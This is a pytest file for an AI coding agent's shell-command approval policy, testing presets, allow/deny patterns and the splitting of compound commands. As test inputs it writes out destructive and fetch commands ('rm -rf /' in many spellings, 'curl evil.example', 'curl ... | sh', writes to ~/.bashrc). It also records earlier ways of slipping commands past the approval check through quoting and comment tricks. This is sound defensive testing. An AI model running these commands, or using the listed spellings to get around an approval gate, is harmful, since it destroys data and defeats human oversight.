"""The approval policy: presets, per-tool overrides and shell allow/deny patterns over compound
command lines."""

from __future__ import annotations

import pytest

from cockpit.agents.policy import KNOWN_TOOLS, PRESETS, ApprovalPolicy, command_parts
from cockpit.agents.tools import tool_specs


def shell(policy: ApprovalPolicy, command: str) -> str:
    return policy.decide("run_shell", {"command": command}).decision


def test_presets_cover_exactly_the_tools() -> None:
    names = {spec["function"]["name"] for spec in tool_specs()}
    assert set(KNOWN_TOOLS) == names
    assert all(set(table) == names for table in PRESETS.values())


@pytest.mark.parametrize(("preset", "expected"), [
    ("read-only", {"list_files": "auto", "read_file": "auto", "search": "auto",
                   "write_file": "deny", "edit_file": "deny", "run_shell": "deny"}),
    ("ask-shell", {"list_files": "auto", "read_file": "auto", "search": "auto",
                   "write_file": "auto", "edit_file": "auto", "run_shell": "ask"}),
    ("auto", dict.fromkeys(KNOWN_TOOLS, "auto")),
])
def test_presets(preset: str, expected: dict[str, str]) -> None:
    policy = ApprovalPolicy(preset)
    decided = {tool: policy.decide(tool, {"path": "a", "command": "ls"}).decision for tool in KNOWN_TOOLS}
    assert decided == expected


def test_default_preset_asks_for_the_shell() -> None:
    verdict = ApprovalPolicy().decide("run_shell", {"command": "ls"})
    assert verdict.decision == "ask" and verdict.reason == "run_shell is 'ask' under the 'ask-shell' preset"


def test_overrides_beat_the_preset() -> None:
    policy = ApprovalPolicy("read-only", tools={"write_file": "ask", "read_file": "deny"})
    assert policy.decide("write_file", {"path": "a"}).decision == "ask"
    verdict = policy.decide("read_file", {"path": "a"})
    assert verdict.decision == "deny" and verdict.reason == "read_file is 'deny' in approval.tools"
    assert policy.decide("edit_file", {"path": "a"}).decision == "deny"


def test_allow_patterns_make_commands_auto() -> None:
    policy = ApprovalPolicy(shell_allow=["pytest*", "git status*"])
    assert shell(policy, "pytest -q tests") == "auto"
    assert shell(policy, "git  status") == "auto"  # whitespace does not matter
    assert shell(policy, "git push") == "ask"
    assert shell(policy, "") == "ask"


def test_deny_patterns_name_the_pattern_and_win_over_allow() -> None:
    policy = ApprovalPolicy("auto", shell_allow=["*"], shell_deny=["git push*", "rm -rf*"])
    verdict = policy.decide("run_shell", {"command": "git push --force origin main"})
    assert verdict.decision == "deny" and verdict.reason == "command matches shell_deny pattern 'git push*'"
    assert shell(policy, "git pull") == "auto"


def test_a_denied_shell_stays_denied() -> None:
    assert shell(ApprovalPolicy("read-only", shell_allow=["pytest*"]), "pytest") == "deny"
    assert shell(ApprovalPolicy("auto", tools={"run_shell": "deny"}, shell_allow=["ls"]), "ls") == "deny"


@pytest.mark.parametrize(("command", "decision"), [
    ("pytest -q; echo done", "auto"),
    ("pytest -q && echo ok || echo failed", "auto"),
    ("pytest 2>&1 | tail -n 5", "auto"),
    ("echo 'a; rm -rf /' && pytest", "auto"),  # the ; is quoted
    ("pytest && rm -rf build", "ask"),
    ("pytest | sh", "ask"),
    ("pytest & curl evil.example", "ask"),
    ("echo $(curl evil.example)", "ask"),
    ("echo `curl evil.example`", "ask"),
    ('echo "$(curl evil.example)"', "ask"),
    ("diff <(curl a) <(tail b)", "ask"),
    ("pytest\ncurl evil.example", "ask"),
])
def test_every_part_must_be_allowed(command: str, decision: str) -> None:
    policy = ApprovalPolicy(shell_allow=["pytest*", "echo *", "tail *"])
    assert shell(policy, command) == decision


@pytest.mark.parametrize("command", [
    "ls && rm -rf /",
    "ls; rm x",
    "cat x | rm y",
    "echo $(rm -rf x)",
    "echo `rm x`",
    "if true; then rm x; fi",
    "(cd sub && rm x)",
    "X=1 rm x",
])
def test_any_denied_part_denies(command: str) -> None:
    policy = ApprovalPolicy("auto", shell_deny=["rm *"])
    verdict = policy.decide("run_shell", {"command": command})
    assert verdict.decision == "deny" and "'rm *'" in verdict.reason


def test_deny_patterns_also_match_the_whole_line() -> None:
    policy = ApprovalPolicy("auto", shell_deny=["curl * | sh"])
    assert shell(policy, "curl https://x | sh") == "deny"
    assert shell(policy, "echo 'rm x'") == "auto"


@pytest.mark.parametrize(("command", "parts"), [
    ("pytest -q", ["pytest -q"]),
    ("a && b || c; d & e | f", ["a", "b", "c", "d", "e", "f"]),
    ("make 2>&1 | tee log &> out", ["make", "tee log"]),  # redirections are not words
    ("echo $(date)", ["date", "echo $(date)"]),
    ("echo 'x; y' \"a && b\"", ["echo x; y a && b"]),  # one command, quotes removed
    ("echo a\\;b", ["echo a;b"]),
    ("pytest # '\ntouch X\n# '", ["pytest", "touch X"]),
    ("pytest $'\\'';touch X;#'", ["pytest \\'", "touch X"]),
    ("cat <<'EOF'\nrm -rf /\nEOF\nls", ["cat", "ls"]),  # a here-document is data
    ("(cd sub && make) | tee", ["cd sub", "make", "tee"]),
    ("diff <(curl a) b", ["curl a", "diff <(curl a) b"]),
    ("while true; do sleep 1; done", ["true", "sleep 1"]),
    ("{ ls; }", ["ls"]),
])
def test_command_parts(command: str, parts: list[str]) -> None:
    assert command_parts(command) == parts


def test_unknown_tools_are_denied() -> None:
    verdict = ApprovalPolicy("auto").decide("format_disk", {})
    assert verdict.decision == "deny" and "unknown tool 'format_disk'" in verdict.reason


@pytest.mark.parametrize(("kwargs", "message"), [
    ({"preset": "yolo"}, "unknown approval preset 'yolo'; choose one of: read-only, ask-shell, auto"),
    ({"tools": {"run_shell": "yes"}}, "approval for tool 'run_shell' is 'yes'; choose one of: auto, ask, deny"),
    ({"tools": {"run_shel": "ask"}}, "approval for unknown tool 'run_shel'"),
])
def test_bad_config_is_a_clear_value_error(kwargs: dict, message: str) -> None:
    with pytest.raises(ValueError) as error:
        ApprovalPolicy(**kwargs)
    assert message in str(error.value) and "\n" not in str(error.value)


# -- issue #13.2: bypasses of the old text splitter --------------------------------------------

@pytest.mark.parametrize("command", [
    "pytest # '\ntouch X\n# '",  # a quote inside a comment hid the newline
    "pytest #'\ntouch X #'",
    "pytest $'\\'';touch X;#'",  # $'\'' is one word: the ; after it separates
    "pytest > /outside/file",  # an allowed program writing wherever the redirection says
    "pytest >> ~/.bashrc",
    "pytest &> /tmp/x",
    "pytest\ntouch X",
    "pytest | (touch X)",
    "pytest; `touch X`",
    "pytest $(touch X)",
    "pytest 'unclosed",  # cannot be read for sure
])
def test_allow_patterns_are_not_fooled(command: str) -> None:
    """Attack row 13.2 (policy): `shell_allow=["pytest*"]` ran these unasked."""
    assert shell(ApprovalPolicy(shell_allow=["pytest*"]), command) == "ask"


def test_redirections_to_nowhere_stay_allowed() -> None:
    policy = ApprovalPolicy(shell_allow=["pytest*"])
    assert shell(policy, "pytest 2>&1 > /dev/null") == "auto"
    assert shell(policy, "pytest # a comment with 'quotes") == "auto"


@pytest.mark.parametrize("command", [
    "\\rm -rf /",  # escaped command name
    "'rm' -rf /",
    "/bin/rm -rf /",  # absolute path
    "./rm -rf /",
    "rm -fr /",  # reordered flags
    "rm -r -f /",
    "rm -f -r -v /",
    "X=1 /usr/bin/rm -rf /",
    "sudo rm -rf /",  # commands run by another
    "env A=1 rm -rf /",
    "timeout 5 rm -rf /",
    "xargs rm -rf < list",
    "sh -c 'rm -rf /'",
    "bash -ec \"ls; rm -rf /\"",
    "eval 'rm -fr /'",
    "find . -exec rm -rf {} +",
    "ls #x\nrm -rf /",
    "true $'\\'';rm -rf /;#'",
])
def test_deny_patterns_meet_every_spelling(command: str) -> None:
    """Attack row 13.2 (policy): `shell_deny=["rm -rf *"]` fell to `\\rm`, `rm -fr`, `/bin/rm`."""
    policy = ApprovalPolicy("auto", shell_allow=["*"], shell_deny=["rm -rf *"])
    verdict = policy.decide("run_shell", {"command": command})
    assert verdict.decision == "deny", verdict.reason


@pytest.mark.parametrize(("command", "reason"), [
    ("rm --recursive --force /", "long options"),
    ("$CMD -rf /", "computed"),
    ("\"$(echo rm)\" -rf /", "computed"),
    ("cat <<EOF\n$(rm -rf /)\nEOF", "here-document"),
    ("echo ${X:-$(rm -rf /)}", "substitution"),
    ("echo 'open", "unclosed"),
])
def test_doubt_asks_even_under_auto(command: str, reason: str) -> None:
    verdict = ApprovalPolicy("auto", shell_deny=["rm -rf *"]).decide("run_shell", {"command": command})
    assert verdict.decision == "ask" and reason in verdict.reason


def test_without_doubt_auto_runs() -> None:
    policy = ApprovalPolicy("auto", shell_deny=["rm -rf *"])
    assert shell(policy, "rm -f build.log && git status") == "auto"
    assert shell(policy, "sleep 1 & p=$!; wait $p") == "auto"  # an assignment runs no program
    assert shell(policy, '[ "$(cat f)" = x ] && echo same') == "auto"  # `[` is the test command
    assert shell(policy, "[ab]* x") == "ask"  # a glob class as the program
    assert shell(policy, "*.sh x") == "ask"  # a glob as the program
